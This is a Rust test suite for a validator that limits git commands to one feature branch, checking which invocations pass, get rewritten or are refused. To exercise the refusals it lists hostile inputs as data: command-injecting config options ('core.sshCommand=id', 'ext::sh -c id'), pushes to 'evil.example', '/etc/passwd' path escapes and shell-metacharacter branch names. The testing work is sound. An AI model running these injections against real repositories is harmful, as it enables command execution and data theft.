use super::options::{Takes, entries};
use super::*;
use branchyard_model::ErrorKind;
use proptest::prelude::*;

fn words(line: &str) -> Vec<String> {
    shlex::split(line).expect("test input")
}

/// Command lines, one between two bars or line ends.
fn cases(lines: &str) -> impl Iterator<Item = &str> {
    lines.split(['\n', '|']).map(str::trim)
}

fn own() -> BranchName {
    BranchName::parse("feature/x").expect("legal")
}

/// Checks a line whose first word is the verb, for the workspace of feature/x.
fn check(line: &str) -> Result<GitCall, Problem> {
    let mut args = words(line);
    let verb = args.remove(0);
    git(&verb, args, &own())
}

fn assert_kind(lines: &str, kind: ErrorKind) {
    for line in cases(lines) {
        let problem = check(line).expect_err(&format!("{line:?} passed"));
        assert_eq!(problem.kind, kind, "{line:?}: {problem}");
        assert!(problem.field.is_some(), "{line:?}");
        if kind == ErrorKind::Forbidden {
            assert_eq!(problem.code, "git_forbidden", "{line:?}");
            assert!(problem.help.is_some(), "{line:?}");
        }
    }
}

fn assert_becomes(expected: &[(&str, &str)]) {
    for (line, args) in expected {
        assert_eq!(check(line).expect(line).args, words(args), "{line}");
    }
}

#[test]
fn plain_commands_pass_as_they_are() {
    for line in cases(
        "branch | branch -a | branch --list 'feat/*' | branch --show-current | branch --sort=-committerdate
            tag | tag --list 'v*' | tag -n5 | rev-parse HEAD | rev-parse --short=7 HEAD | rev-parse @{u}
            rev-parse --abbrev-ref HEAD | rev-list --count HEAD | rev-list --count origin/main..HEAD
            ls-files | ls-files --others --exclude-standard | ls-tree -r --name-only HEAD src
            describe --always --dirty | describe --tags --abbrev=0 | shortlog -s -n HEAD
            merge-base origin/main HEAD | merge-base --is-ancestor a b | cat-file -p HEAD:src/main.c
            cat-file -t HEAD | name-rev --name-only HEAD | add . | add -A | add -u src | add -- a b
            commit -mmsg | commit --amend --no-edit | commit --allow-empty -mx | restore src/a.c
            restore --staged --source=HEAD~1 -- a | rm -r --cached build | rm -r a | rm -f --cached a | mv a b | reset --soft HEAD~1
            reset HEAD -- a | reset | merge origin/main | merge --no-ff -mx origin/main | merge --abort
            merge -Xtheirs -sort x | rebase origin/main | rebase --onto=a b | rebase --continue
            rebase --abort | rebase --skip | rebase --root | cherry-pick -x abc123 | cherry-pick -m1 abc
            revert --no-edit HEAD | checkout -- src/a.c | checkout HEAD~2 -- src | checkout --ours -- a",
    ) {
        assert_eq!(check(line).expect(line).args, words(line), "{line}");
    }
}

#[test]
fn looks_run_no_programs_and_enter_no_nested_repository() {
    assert_becomes(&[
        ("status", "status --ignore-submodules=dirty"),
        ("status -sb", "status --ignore-submodules=dirty -s -b"),
        ("log", "log --no-ext-diff --no-textconv"),
        (
            "show HEAD:src/x",
            "show --no-ext-diff --no-textconv HEAD:src/x",
        ),
        (
            "diff HEAD",
            "diff --no-ext-diff --no-textconv --ignore-submodules=dirty HEAD",
        ),
        ("blame -L 1,5 a.c", "blame --no-textconv -L1,5 a.c"),
        ("reflog", "reflog show"),
        ("reflog show --oneline HEAD", "reflog show --oneline HEAD"),
        ("shortlog -sn", "shortlog -s -n HEAD"),
    ]);
}

#[test]
fn values_are_attached_and_short_options_come_apart() {
    let log = "log --no-ext-diff --no-textconv";
    for (line, args) in [
        ("-n 5", "-n5"),
        ("-n5", "-n5"),
        ("-20", "-20"),
        ("--max-count 5 main", "--max-count=5 main"),
        ("-pU3", "-p -U3"),
        ("-U3 a", "-U3 a"),
        ("-U 3", "-U 3"),
        ("-M90 -B -w", "-M90 -B -w"),
        (
            "--oneline --graph --decorate=short --branches",
            "--oneline --graph --decorate=short --branches",
        ),
        ("--pretty --stat=80", "--pretty --stat=80"),
        ("--grep --output=x", "--grep=--output=x"),
        ("--grep -- -p", "--grep=-- -p"),
        ("--author 'A U <a@b>'", "'--author=A U <a@b>'"),
        ("-S 'a b'", "'-Sa b'"),
        ("--format=%H%x00%an%n", "--format=%H%x00%an%n"),
        ("main -p -- a b", "-p main -- a b"),
        ("--", "--"),
    ] {
        assert_becomes(&[(&format!("log {line}"), &format!("{log} {args}"))]);
    }
    assert_becomes(&[
        ("commit -am 'two words'", "commit -a '-mtwo words'"),
        ("commit -m --amend", "commit -m--amend"),
        ("commit --message=", "commit --message="),
        ("branch -vv", "branch -v -v"),
        ("branch --merged", "branch --merged=HEAD"),
        ("branch --merged main", "branch --merged=main"),
        ("branch --merged --list x", "branch --merged=HEAD --list x"),
        (
            "branch --list x --contains",
            "branch --list --contains=HEAD x",
        ),
        ("grep -n foo", "grep -n -efoo"),
        ("grep foo -n -- src", "grep -n -efoo -- src"),
        ("grep /etc/../x HEAD", "grep -e/etc/../x HEAD"),
        ("grep -e -x --and -e b src", "grep -e-x --and -eb src"),
        ("grep -A 3 -3 x", "grep -A3 -3 -ex"),
        ("add -- -x --force", "add -- ./-x ./--force"),
        ("mv -- -x b", "mv -- ./-x b"),
        ("rebase -- --exec=id", "rebase -- ./--exec=id"),
    ]);
    let message = vec!["-m".to_owned(), "subject\n\nbody\n".to_owned()];
    assert_eq!(
        git("commit", message, &own())
            .expect("a message has lines")
            .args,
        ["commit", "-msubject\n\nbody\n"]
    );
}

#[test]
fn revisions_of_all_kinds_are_no_paths() {
    for line in cases(
        "a..b | a...b | HEAD~3 | HEAD^ | HEAD^.. | ..HEAD | @{u} | @{u}.. | origin/main | HEAD:src/x | :src/x
            origin/main..feature/x | HEAD@{yesterday} | 'HEAD@{2 hours ago}' | :/fix | :0:a | ^main
            'HEAD^{tree}' | v1.0..v1.1 | ':(exclude)x' | ':!x' | ':(top,glob)**/*.c' | a..b/c | x..",
    ) {
        assert!(check(&format!("log {line}")).is_ok(), "{line}");
        assert!(check(&format!("diff {line}")).is_ok(), "{line}");
    }
}

#[test]
fn paths_out_of_the_tree_are_refused() {
    for line in cases(
        "/etc/passwd | ../x | .. | a/../b | a/.. | ../../etc/passwd x | HEAD:../x | :/../x | ':!../x'
            ':(top)../x' | ':^..' | ':(a/../../b)c' | -- /etc/passwd | -- ../x | -- a ../b | '' | -- ''",
    ) {
        for verb in ["diff", "log", "show", "blame", "add", "rm", "ls-files", "restore", "mv a", "grep x"] {
            assert_kind(&format!("{verb} {line}"), ErrorKind::BadRequest);
        }
    }
    let escape = vec!["a\u{1b}[0m".to_owned()];
    assert!(git("log", escape, &own()).is_err());
    assert!(git("log", vec!["--".to_owned(), "a\0b".to_owned()], &own()).is_err());
    assert!(git("commit", vec!["-m".to_owned(), "a\0b".to_owned()], &own()).is_err());
}

#[test]
fn options_that_run_programs_or_reach_out_are_refused() {
    for verb in verbs() {
        for option in cases(
            "-c core.sshCommand=id | -c 'alias.x=!id' | -ccore.pager=id | -C / | --git-dir=/x | --work-tree=/
                --exec-path=/x | --output=/x | --output x | --outp=x | --no-index | --ext-diff | --textconv
                --open-files-in-pager=id | -O | -Oid | --exec=id | --contents=/x | --file=/x | -F /x
                --template=/x | --pathspec-from-file=/x | --upload-pack=id | --receive-pack=id | -o /x
                --stdin | --paginate | --interactive | --patch-with | --gpg-sign | --show-signature | -
                --edit | --submodule=diff | --recurse-submodules | --exclude-from=/x | -X /x | --unknown
                --ignore-revs-file=/x | --autostash | --filters | --help | --trailer=x | -é | --=x",
        ) {
            let line = format!("{} {option}", verb.name);
            assert!(check(&line).is_err(), "{line} passed");
        }
    }
    assert_kind(
        "log -c core.sshCommand=id | log -c 'alias.x=!id' | status -C / | log --git-dir=/x | log --exec-path=/x
            diff --output=/x | diff --no-index /etc/passwd x | log --outp=x | grep -O x | grep -Oid x
            rebase --exec id | rebase -x id | rebase -xid | rebase -i | submodule foreach id
            submodule foreach --recursive id | archive -o /x HEAD | archive --output=/x HEAD
            blame --contents=/x a | commit -F /x | commit --template=/x | apply a.patch | am a
            log --onel | log --pretty=%G? | log '--format=%H %+GG' | branch '--format=%(signature:key)'
            tag '--format=%(*signature)' | branch --sort=-signature | merge -s custom x
            merge --strategy=../x x | merge -X subtree=../x x | reset -p | pull --rebase=interactive
            commit -m | log -n | commit -m '' | log --oneline=1 | log -p5 | grep | grep '' | grep -- x
            fetch --upload-pack=id | push --receive-pack=id | push --exec=id | cat-file --batch
            x | alias | ls-remote | for-each-ref | daemon | upload-pack | bisect run id | difftool | help",
        ErrorKind::BadRequest,
    );
    for operation in [
        "",
        "-c",
        "--git-dir=/x",
        "-p",
        "log -p",
        "Status",
        "stat\0us",
        "../x",
        "status;id",
        "log\n",
    ] {
        let problem = git(operation, Vec::new(), &own()).expect_err(operation);
        assert_eq!(problem.kind, ErrorKind::BadRequest, "{operation:?}");
        assert_eq!(problem.field.as_deref(), Some("operation"));
    }
}

#[test]
fn what_is_shared_or_loses_work_is_forbidden() {
    assert_kind(
        "config user.name x | config -l | gc | gc --prune=now | prune | update-ref refs/heads/x HEAD | worktree list
            filter-branch --all | submodule update --init | remote add x y | remote -v | stash | stash pop
            clean -fd | clean | symbolic-ref HEAD x | switch main | maintenance run | reset --hard
            reset -q --hard HEAD~1 | reset --merge | reset --keep x | checkout main | checkout -b x
            checkout -B x | checkout main -- | checkout | checkout src/a.c | checkout a b -- c
            checkout --detach | checkout --orphan x | checkout -f | branch x | branch x HEAD | branch -v x
            branch -d x | branch -D x | branch -rd origin/x | branch -m x | branch -c a b | branch -f x y
            branch -u origin/x | branch --unset-upstream | branch -- x | tag v1 | tag -d v1 | tag -a v1 | tag -s v1
            reflog expire | reflog delete HEAD@{0} | rebase main other | rebase --root other
            rebase --onto a b c | rebase -- a b | rm -f a | rm -rf . | rm --force a",
        ErrorKind::Forbidden,
    );
    let problem = check("checkout main").expect_err("moves");
    assert!(
        problem
            .help
            .is_some_and(|help| help.contains("never moves to another branch"))
    );
}

#[test]
fn the_network_verbs_reach_origin_and_the_own_branch_only() {
    let push = "push origin refs/heads/feature/x:refs/heads/feature/x";
    let push_head = "push origin HEAD:refs/heads/feature/x";
    let fetch = "fetch --no-recurse-submodules";
    let pull = "pull --no-recurse-submodules";
    assert_becomes(&[
        ("push", push),
        ("push origin", push),
        ("push -u origin feature/x", push),
        ("push --set-upstream origin refs/heads/feature/x", push),
        ("push origin feature/x:feature/x", push),
        ("push origin HEAD", push_head),
        ("push origin @", push_head),
        ("push -- origin HEAD:feature/x", push_head),
        ("push origin HEAD:refs/heads/feature/x", push_head),
        (
            "push -nq --porcelain origin HEAD",
            "push -n -q --porcelain origin HEAD:refs/heads/feature/x",
        ),
        ("fetch", &format!("{fetch} origin")),
        ("fetch --tags origin", &format!("{fetch} --tags origin")),
        ("pull", &format!("{pull} . refs/remotes/origin/feature/x")),
        (
            "pull --ff-only origin",
            &format!("{pull} --ff-only . refs/remotes/origin/feature/x"),
        ),
        (
            "pull --rebase origin feature/x",
            &format!("{pull} --rebase . refs/remotes/origin/feature/x"),
        ),
        (
            "pull --no-rebase origin refs/heads/feature/x",
            &format!("{pull} --no-rebase . refs/remotes/origin/feature/x"),
        ),
    ]);
    assert_kind(
        "push --force | push -f | push -fu origin HEAD | push --force=1 | push --force-with-lease | push --mirror
            push --delete origin feature/x | push -d origin feature/x | push --all | push --tags | push --follow-tags
            push origin +feature/x | push origin +HEAD:feature/x | push origin :feature/x | push origin :
            push origin main | push origin HEAD:main | push origin main:feature/x | push origin feature/x:main
            push origin HEAD~1:feature/x | push origin HEAD main | push origin refs/tags/v1 | push origin tag v1
            push origin 'refs/heads/*:refs/heads/*' | push other | push https://evil.example/x HEAD | push HEAD
            push /tmp/x | push 'ext::sh -c id' | push origin -- main | fetch other | fetch --prune | fetch -p
            fetch origin main | fetch origin +refs/heads/*:refs/heads/* | fetch 'ext::sh -c id' | fetch /etc
            pull origin main | pull other | pull origin feature/x main | pull https://evil.example/x
            pull --force | pull --autostash",
        ErrorKind::Forbidden,
    );
}

#[test]
fn odd_branch_names_are_pushed_by_their_full_ref() {
    for name in ["+x", "a;id", "$(id)", "origin"] {
        let branch = BranchName::parse(name).expect("legal");
        let call = git("push", Vec::new(), &branch).expect(name);
        assert_eq!(call.args[2], format!("refs/heads/{name}:refs/heads/{name}"));
    }
    let plus = BranchName::parse("+x").expect("legal");
    assert!(git("push", words("origin +x"), &plus).is_err());
}

#[test]
fn a_call_says_what_it_needs() {
    for (line, access) in [
        ("status", GitAccess::Read),
        ("grep x", GitAccess::Read),
        ("commit -mx", GitAccess::Write),
        ("checkout -- a", GitAccess::Write),
        ("fetch", GitAccess::Network),
        ("pull", GitAccess::Pull),
        ("push", GitAccess::Network),
    ] {
        assert_eq!(check(line).expect(line).access, access, "{line}");
    }
    assert_eq!(
        check("mv -k a link/").expect("passes").beneath,
        ["a", "link/"]
    );
    assert_eq!(check("mv -- -a b").expect("passes").beneath, ["./-a", "b"]);
    assert_eq!(
        check("blame HEAD -- a").expect("passes").beneath,
        ["HEAD", "a"]
    );
    assert!(check("add a").expect("passes").beneath.is_empty());
}

#[test]
fn quick_looks_only() {
    for line in cases(
        "status | log -5 --oneline | branch -a | diff --stat HEAD~1 | show HEAD | log main..HEAD -- src",
    ) {
        let mut args = words(line);
        let verb = args.remove(0);
        let call = git_quick(&verb, args.clone()).expect(line);
        assert_eq!(call.access, GitAccess::Read);
        assert_eq!(call, git(&verb, args, &own()).expect(line));
    }
    for operation in ["blame", "commit", "push", "config", "", "-c", "log -p"] {
        let problem = git_quick(operation, Vec::new()).expect_err(operation);
        assert_eq!(problem.kind, ErrorKind::BadRequest);
        assert_eq!(problem.field.as_deref(), Some("operation"));
    }
    assert!(git_quick("branch", words("new")).is_err());
    assert!(git_quick("diff", words("--output=x")).is_err());
    assert!(git_quick("diff", words("--no-index /etc/passwd x")).is_err());
}

#[test]
fn a_refusal_says_what_to_write() {
    let problem = check("log --onel").expect_err("abbreviated");
    assert!(problem.help.is_some_and(|help| help.contains("--oneline")));
}

#[test]
fn the_tables_hold_nothing_that_reaches_out() {
    let banned = words(
        "--output -o --no-index -O --open-files-in-pager --exec --contents -F --file --template -c -C \
         --pathspec-from-file --upload-pack --receive-pack --ext-diff --textconv --git-dir --work-tree \
         --exec-path --stdin --annotate-stdin --interactive --edit -e --show-signature --gpg-sign \
         --verify-signatures --submodule --recurse-submodules --ignore-revs-file --exclude-from \
         --exclude-per-directory --filters --batch --autostash --update-refs --quit --hard --force-with-lease",
    );
    for verb in verbs() {
        for (name, takes) in entries(verb) {
            let harmless = matches!(
                (verb.name, name),
                ("grep" | "blame" | "shortlog" | "cat-file", "-e")
                    | ("cherry-pick" | "revert", "--quit")
            );
            assert!(
                harmless || !banned.iter().any(|word| word == name),
                "{} {name}",
                verb.name
            );
            assert!(name.starts_with('-'), "{} {name}", verb.name);
            assert!(
                name.starts_with("--") || name == "-<n>" || name.len() == 2,
                "{name}"
            );
            assert!(
                name.starts_with("--") || takes != Takes::ValueOrHead,
                "{name}"
            );
            let forbidden = verb.forbidden.split_whitespace();
            assert!(
                !forbidden.into_iter().any(|word| word == name),
                "{} {name}",
                verb.name
            );
        }
    }
}

fn hostile_word() -> impl Strategy<Value = String> {
    prop_oneof![
        "-[a-zA-Z0-9]{1,4}[./=]{0,2}",
        "--(output|grep|format|merged|no-index|exec|abbrev|message|hard|force)(=[-./a-z%G]{0,5})?",
        "(\\.\\./|/|a/|:|\\(|HEAD|~|\\.\\.){0,4}x?",
        "--",
        any::<String>(),
    ]
}

proptest! {
    #[test]
    fn what_passes_is_canonical(
        at in any::<prop::sample::Index>(),
        args in prop::collection::vec(hostile_word(), 0..6),
    ) {
        let verbs: Vec<_> = verbs().collect();
        let verb = at.get(&verbs);
        let Ok(call) = git(verb.name, args, &own()) else { return Ok(()) };
        prop_assert_eq!(&call.args[0], verb.name);
        let end = call.args.iter().position(|word| word == "--").unwrap_or(call.args.len());
        let (front, back) = call.args.split_at(end);
        for word in &front[1 + verb.always.len()..] {
            let name = word.split('=').next().unwrap_or_default();
            let known = entries(verb).any(|(known, takes)| match takes {
                Takes::Nothing => known == word,
                _ if known.starts_with("--") => known == name,
                _ => word.starts_with(known),
            });
            let number = word.strip_prefix('-').is_some_and(|digits| digits.bytes().all(|b| b.is_ascii_digit()));
            let ours = apart::BUT.contains(&word.as_str());
            prop_assert!(!word.starts_with('-') || known || number || ours, "{word:?} of {call:?}");
            prop_assert!(!word.starts_with('/'), "{word:?}");
        }
        for path in back.iter().skip(1) {
            prop_assert!(!path.starts_with(['-', '/']) && !path.split('/').any(|part| part == ".."), "{path:?}");
        }
    }
}

#[test]
fn stashes_and_salvages_are_not_reached() {
    assert_kind(
        "show stash | show refs/stash | log stash@{1} | log main..refs/stash | log ^stash main
            log main...stash | cat-file -p refs/branchyard/salvage/x:worktree/.env | diff stash^2
            merge refs/stash | cherry-pick -n stash | reset refs/stash | ls-tree branchyard/salvage/x
            restore -s stash a | restore --source=refs/stash a | rebase --onto=refs/stash main
            branch --contains=refs/stash | checkout refs/stash -- a | grep x refs/stash
            name-rev --all",
        ErrorKind::Forbidden,
    );
    let but = "--exclude=refs/stash '--exclude=refs/branchyard/*'";
    for (line, expected) in [
        ("rev-parse --all", format!("rev-parse {but} --all")),
        (
            "rev-list -n1 --all --glob=x",
            format!("rev-list -n1 {but} --all {but} --glob=x"),
        ),
        ("add --all stash", "add --all stash".to_owned()),
        ("branch --list stash", "branch --list stash".to_owned()),
        (
            "rev-list HEAD -- stash",
            "rev-list HEAD -- stash".to_owned(),
        ),
        (
            "cat-file -p main:stash",
            "cat-file -p main:stash".to_owned(),
        ),
    ] {
        assert_eq!(check(line).expect(line).args, words(&expected), "{line}");
    }
}
